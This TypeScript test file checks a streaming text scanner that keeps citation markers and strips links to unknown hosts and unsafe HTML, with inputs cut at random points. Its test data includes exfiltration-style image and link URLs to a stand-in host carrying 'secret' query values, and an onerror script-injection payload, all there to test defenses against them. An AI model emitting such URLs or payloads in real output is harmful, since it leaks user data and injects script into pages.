import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { type ScannedPiece, textScanner } from "./scan-text.ts";

const known = "https://known.example/page";

/** The pieces of a text that comes in the given cuts, neighbouring words joined. */
function scan(parts: readonly string[], markers = true): { readonly shown: string; readonly removed: number } {
  const scanner = textScanner({ markers, isKnownUrl: (url) => url === known });
  const pieces: ScannedPiece[] = [...parts.flatMap((part) => scanner.push(part)), ...scanner.end()];
  const shown = pieces.map((piece) => (piece.type === "text" ? piece.text : `⟨${piece.numbers.join(",")}⟩`)).join("");
  return { shown, removed: scanner.removed };
}

const examples: readonly (readonly [text: string, shown: string, removed: number])[] = [
  ["Ducks swim [1]. They eat [2, 3].", "Ducks swim ⟨1⟩. They eat ⟨2,3⟩.", 0],
  ["An array a[i] and a note [sic].", "An array a[i] and a note [sic].", 0],
  ["See [the page](https://known.example/page).", "See [the page](https://known.example/page).", 0],
  ["See [the page](https://evil.example/?q=secret).", "See the page.", 1],
  ["![](https://evil.example/p.png?data=secret) Done.", " Done.", 1],
  ["![a](https://known.example/page)", "a", 1],
  ["Go to https://evil.example/x, now.", "Go to , now.", 1],
  ["Go to https://known.example/page.", "Go to https://known.example/page.", 0],
  ["<img src=x onerror=alert(1)>hi <b>bold</b>", "hi <b>bold</b>", 1],
  ["2 < 3 and a <b", "2 < 3 and a <b", 0],
  ["Half [open", "Half [open", 0],
  ["Why! Really! http", "Why! Really! http", 0],
];

for (const [text, shown, removed] of examples)
  test(`reads ${JSON.stringify(text)}, however it is cut`, () => {
    assert.deepEqual(scan([text]), { shown, removed });
    fc.assert(
      fc.property(fc.array(fc.nat({ max: text.length }), { maxLength: 6 }), (cuts) => {
        const places = [0, ...cuts.sort((a, b) => a - b), text.length];
        const parts = places.slice(1).map((end, i) => text.slice(places[i], end));
        assert.deepEqual(scan(parts), { shown, removed });
      }),
      { numRuns: 60 },
    );
  });

test("text without anything special passes unchanged", () =>
  fc.assert(
    fc.property(fc.array(fc.stringMatching(/^[a-z ,.\n!?()éß日]*$/)), (parts) => {
      const { shown, removed } = scan(parts);
      if (!/https?:|www\./.test(parts.join(""))) assert.deepEqual([shown, removed], [parts.join(""), 0]);
    }),
  ));

test("where a model cites by quotes, a marker is only text", () => {
  assert.equal(scan(["as shown in [12]."], false).shown, "as shown in [12].");
});
